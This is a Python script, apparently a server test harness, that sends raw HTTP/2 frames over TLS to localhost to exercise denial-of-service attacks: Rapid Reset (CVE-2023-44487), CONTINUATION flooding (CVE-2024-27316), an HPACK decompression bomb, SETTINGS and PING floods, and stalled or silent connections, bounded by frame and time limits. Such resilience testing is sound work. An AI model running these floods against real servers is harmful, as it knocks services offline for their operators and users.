#!/usr/bin/python3
"""HTTP/2 flood client for the scenario tests: raw frames over TLS (ALPN h2), written with
hyperframe's frame encoder and hpack's encoder (Debian's python3-h2 brings both), so that it can
send what a well-behaved client library refuses to.

Usage: h2_flood.py PORT CA_FILE MODE [PATH]
Modes:
  rapid_reset   HEADERS then RST_STREAM(CANCEL) on a new stream, over and over (CVE-2023-44487)
  open_reset    up to 100 streams opened, then all reset, over and over (thousands of streams)
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316)
  hpack_bomb    one 4000-byte field into the dynamic table, then a block that names it thousands
                of times (a small block that decodes to megabytes)
  settings      SETTINGS frames, never reading the ACKs
  ping          PING frames, never reading the ACKs
  zero_window   a request for PATH with a zero stream window that never opens
  silent        the preface and SETTINGS, then PINGs now and then, never a request
Prints one line: goaway=<error code or -> last_stream=<id or -> rst=<error code of the first
RST_STREAM received or -> sent=<frames sent> closed=<0|1> seconds=<elapsed>.
Bounded: at most 20000 frame groups and 15 s.
"""
import select
import socket
import ssl
import struct
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE_S = 15
MAX_GROUPS = 20000


class Conn:
    def __init__(self, port, ca):
        ctx = ssl.create_default_context(cafile=ca)
        ctx.set_alpn_protocols(["h2"])
        sock = socket.create_connection(("127.0.0.1", port), timeout=DEADLINE_S)
        self.tls = ctx.wrap_socket(sock, server_hostname="localhost")
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("alpn=%s" % self.tls.selected_alpn_protocol())
        self.tls.setblocking(False)
        self.inbuf = b""
        self.goaway = None
        self.last_stream = None
        self.rst = None
        self.closed = False
        self.sent = 0
        self.pending = b""

    def queue(self, *frames):
        for f in frames:
            self.pending += f.serialize() if not isinstance(f, bytes) else f
            self.sent += 1

    def pump(self, wait=0.0):
        """Writes what it can, reads what came; False once the server closed or sent GOAWAY."""
        end = time.monotonic() + wait
        while True:
            want_write = bool(self.pending) and not self.closed
            r, w, _ = select.select([self.tls], [self.tls] if want_write else [],
                                    [], max(0.0, end - time.monotonic()))
            if w and self.pending:
                try:
                    n = self.tls.send(self.pending[:65536])
                    self.pending = self.pending[n:]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    self.closed = True
            if r or self.tls.pending():
                self.read()
            if self.closed or self.goaway is not None:
                return False
            if time.monotonic() >= end and not (self.pending and w):
                return True

    def read(self):
        while True:
            try:
                data = self.tls.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.inbuf += data
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                break
            ftype = self.inbuf[3]
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            if ftype == 0x7 and length >= 8:  # GOAWAY
                last, code = struct.unpack(">II", payload[:8])
                self.last_stream = last & 0x7FFFFFFF
                self.goaway = code
            elif ftype == 0x3 and length == 4 and self.rst is None:  # RST_STREAM
                self.rst = struct.unpack(">I", payload)[0]


def request_block(encoder, path, extra=()):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                           (":path", path)] + list(extra))


def main(argv):
    port, ca, mode = int(argv[0]), argv[1], argv[2]
    path = argv[3] if len(argv) > 3 else "/obj/flood"
    start = time.monotonic()
    c = Conn(port, ca)
    enc = hpack.Encoder()
    settings = SettingsFrame(0)
    if mode == "zero_window":
        settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    c.queue(PREFACE, settings)
    c.pump(0.2)
    sid = 1

    def alive():
        return time.monotonic() - start < DEADLINE_S

    if mode == "rapid_reset":
        for _ in range(MAX_GROUPS // 100):
            for _ in range(100):
                h = HeadersFrame(sid, request_block(enc, path))
                h.flags.add("END_HEADERS"); h.flags.add("END_STREAM")
                c.queue(h, RstStreamFrame(sid, 8))
                sid += 2
            if not c.pump() or not alive():
                break
    elif mode == "open_reset":
        for _ in range(MAX_GROUPS // 100):
            ids = []
            for _ in range(100):
                h = HeadersFrame(sid, request_block(enc, path))
                h.flags.add("END_HEADERS"); h.flags.add("END_STREAM")
                c.queue(h)
                ids.append(sid)
                sid += 2
            c.queue(*[RstStreamFrame(i, 8) for i in ids])
            if not c.pump() or not alive():
                break
    elif mode == "continuation":
        block = request_block(enc, path)
        h = HeadersFrame(sid, block)  # no END_HEADERS: CONTINUATION must follow
        c.queue(h)
        pad = hpack.Encoder()
        pad.huffman = False
        for i in range(MAX_GROUPS):
            frag = pad.encode([("x-pad-%d" % i, "a" * 64)])
            c.queue(ContinuationFrame(sid, frag))
            if i % 10 == 9 and (not c.pump() or not alive()):
                break
    elif mode == "hpack_bomb":
        # The field goes into the dynamic table (index 62), then each byte 0xbe names it again.
        # Pseudo-fields never indexed (sensitive), so that the table holds only the bomb.
        def literal(p):
            return [(":method", "GET", True), (":scheme", "https", True),
                    (":authority", "localhost", True), (":path", p, True)]
        first = enc.encode(literal(path) + [("x-bomb", "b" * 4000)])
        h = HeadersFrame(sid, first)
        h.flags.add("END_HEADERS"); h.flags.add("END_STREAM")
        c.queue(h)
        sid += 2
        block = enc.encode(literal(path)) + b"\xbe" * 16000
        h = HeadersFrame(sid, block)
        h.flags.add("END_HEADERS"); h.flags.add("END_STREAM")
        c.queue(h)
        c.pump(5.0)
    elif mode in ("settings", "ping"):
        for i in range(MAX_GROUPS // 10):
            for j in range(10):
                c.queue(SettingsFrame(0) if mode == "settings"
                        else PingFrame(0, struct.pack(">Q", i * 10 + j)))
            if not c.pump() or not alive():
                break
    elif mode == "zero_window":
        h = HeadersFrame(sid, request_block(enc, path))
        h.flags.add("END_HEADERS"); h.flags.add("END_STREAM")
        c.queue(h)
        while alive() and c.rst is None and c.pump(0.2):
            pass
    elif mode == "silent":
        while alive() and c.pump(0.5):
            c.queue(PingFrame(0, b"\0" * 8))
    else:
        raise SystemExit("unknown mode " + mode)

    # Whatever the server still says (bounded).
    while c.goaway is None and not c.closed and alive() and mode != "zero_window":
        c.pump(0.2)
    print("goaway=%s last_stream=%s rst=%s sent=%d closed=%d seconds=%.1f" % (
        "-" if c.goaway is None else c.goaway, "-" if c.last_stream is None else c.last_stream,
        "-" if c.rst is None else c.rst, c.sent, 1 if c.closed else 0,
        time.monotonic() - start))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
